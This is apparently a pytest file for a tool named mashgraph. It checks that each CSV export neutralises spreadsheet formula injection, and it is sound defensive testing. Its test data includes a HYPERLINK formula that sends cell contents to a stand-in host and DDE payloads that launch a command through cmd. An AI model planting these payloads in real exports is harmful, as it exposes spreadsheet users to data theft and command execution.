"""Every CSV download is safe to open in a spreadsheet (OWASP CSV Injection).

Hostile names are ingested through the shipped ``people`` mapping, then read
back from every CSV mashgraph writes: ``mashgraph cypher`` and ``mashgraph
query run`` with ``--format csv``, ``mashgraph resolve export``, the
quarantine and warning files, the web query download and the audit export.
"""

from __future__ import annotations

import csv
import io
import re
import textwrap
from pathlib import Path

import pytest
from click.testing import CliRunner

from mashgraph.cli import cli
from mashgraph.safe_csv import FORMULA_STARTS, neutralise, to_csv
from mashgraph.web import create_app
from mashgraph.web.accounts import Accounts
from test_web import csrf_from

PEOPLE_HEADER = "record_id,agency,given_name,family_name,dob,sex,postcode,address,nhs_number,upn,pnc_id,ni_number"
GIVEN = '=HYPERLINK("http://evil.invalid/?"&A1,"click")'
FAMILY = "+cmd|' /C calc'!A0"
AGENCY = "-2+3"
ADDRESS = "\uff1dSUM(1;1)"  # full-width equals sign
BAD_DOB = "@SUM(1+1)"       # not a date: the field is emptied and warned about
QUARANTINED_ID = "=2+3"     # no agency: the whole row is quarantined
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")

NAMES_QUERY = textwrap.dedent("""\
    // title: Record names
    // description: Every record's key and names.
    // params:
    //   agency: {type: string, default: "", help: only this agency (empty for all)}
    // returns: table
    MATCH (r:Record)
    WHERE $agency = '' OR r.agency = $agency
    RETURN r.key AS record, r.given_name AS given_name, r.family_name AS family_name,
           r.address AS address, -1 AS minus_one
    ORDER BY record
    """)


def assert_safe(text: str) -> list[list[str]]:
    """Every cell of ``text`` (a CSV) is quoted and none starts like a formula; the parsed rows."""
    rows = list(csv.reader(io.StringIO(text)))
    assert rows, "empty CSV"
    for line in text.splitlines():
        if line:
            assert line.startswith('"'), f"unquoted field in {line!r}"
    for row in rows:
        for cell in row:  # a plain number such as -1 is data to a spreadsheet, not a formula
            assert cell[:1] not in FORMULA_STARTS or NUMBER.fullmatch(cell), f"formula cell {cell!r}"
    return rows


def cells(rows: list[list[str]]) -> set[str]:
    return {c for row in rows for c in row}


def test_neutralise_follows_owasp():
    for start in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20":
        assert neutralise(start + "1+1") == "'" + start + "1+1"
    assert neutralise("Amy O'Neil") == "Amy O'Neil"
    assert neutralise(-5) == -5 and neutralise(None) is None
    assert to_csv(["a"], [['say "hi"']]) == '"a"\n"say ""hi"""\n'


@pytest.fixture(scope="module")
def hostile_world(tmp_path_factory):
    """An embedded graph holding hostile records ingested with the people mapping, and its CLI output."""
    root = tmp_path_factory.mktemp("hostile")
    extract = root / "people.csv"
    extract.write_text(
        PEOPLE_HEADER + "\n"
        + f'R1,{AGENCY},"{GIVEN.replace(chr(34), chr(34) * 2)}",{FAMILY},{BAD_DOB},F,,{ADDRESS},,,,\n'
        + f"{QUARANTINED_ID},,Nobody,Atall,2010-01-01,F,,,,,,\n",
        encoding="utf-8")
    env = {"MASHGRAPH_DB": str(root / "graph")}
    runner = CliRunner()
    result = runner.invoke(cli, ["ingest", "--mapping", "people", str(extract),
                                 "--quarantine-dir", str(root / "q")], env=env)
    assert result.exit_code == 0, result.output
    assert "loaded 1, quarantined 1, warnings 1" in result.output
    (root / "queries").mkdir()
    (root / "queries" / "record-names.cypher").write_text(NAMES_QUERY, encoding="utf-8")
    return root, env


def test_cli_csv_outputs_are_neutralised(hostile_world):
    root, env = hostile_world
    runner = CliRunner()
    out = runner.invoke(cli, ["cypher", "MATCH (r:Record) RETURN r.key AS k, r.given_name AS g, "
                              "r.family_name AS f, r.agency AS a, r.address AS ad", "--format", "csv"], env=env)
    assert out.exit_code == 0, out.output
    got = cells(assert_safe(out.output))
    assert {"'" + v for v in (GIVEN, FAMILY, AGENCY, ADDRESS)} <= got
    assert "'" + AGENCY + ":R1" in got

    out = runner.invoke(cli, ["query", "run", "record-names", "--format", "csv",
                              "--queries", str(root / "queries")], env=env)
    assert out.exit_code == 0, out.output
    rows = assert_safe(out.output)
    assert {"'" + GIVEN, "'" + FAMILY, "'" + ADDRESS} <= cells(rows)
    assert rows[1][-1] == "-1", "a number is written as a number, not neutralised"

    export = root / "assignments.csv"
    out = runner.invoke(cli, ["resolve", "export", "--out", str(export)], env=env)
    assert out.exit_code == 0, out.output
    assert "'" + AGENCY + ":R1" in cells(assert_safe(export.read_text(encoding="utf-8")))


def test_quarantine_and_warning_files_are_neutralised(hostile_world):
    root, _ = hostile_world
    [quarantine] = list((root / "q").glob("*/people.quarantine.csv"))
    [warnings] = list((root / "q").glob("*/people.warnings.csv"))
    q_rows = assert_safe(quarantine.read_text(encoding="utf-8"))
    assert q_rows[1][-1].startswith("'" + QUARANTINED_ID + ",")  # the original line, neutralised
    w_rows = assert_safe(warnings.read_text(encoding="utf-8"))
    assert "'" + BAD_DOB in w_rows[1]


def test_web_query_and_audit_downloads_are_neutralised(hostile_world, tmp_path):
    root, env = hostile_world
    users = tmp_path / "users.sqlite"
    accounts = Accounts(users)
    accounts.add_user("adm", "admin-password-12", "admin")
    accounts.close()
    app = create_app({"TESTING": True, "MASHGRAPH_DB": env["MASHGRAPH_DB"], "MASHGRAPH_USERS_DB": str(users),
                      "MASHGRAPH_REQUIRE_REASON": False, "QUERIES_FOLDER": str(root / "queries")})
    try:
        client = app.test_client()
        token = csrf_from(client.get("/login").get_data(as_text=True))
        client.post("/login", data={"username": "=cmd|' /C calc'!A0", "password": "x", "csrf_token": token})
        client.post("/login", data={"username": "adm", "password": "admin-password-12", "csrf_token": token})
        got = client.get("/queries/record-names.csv?agency=" + AGENCY.replace("+", "%2B"))
        assert got.status_code == 200, got.get_data(as_text=True)
        assert {"'" + GIVEN, "'" + FAMILY} <= cells(assert_safe(got.get_data(as_text=True)))
        audit = client.get("/admin/audit.csv")
        assert audit.status_code == 200
        assert "'=cmd|' /C calc'!A0" in cells(assert_safe(audit.get_data(as_text=True)))
    finally:
        app.extensions["mashgraph"].close()
        app.extensions["mashgraph"].accounts.close()
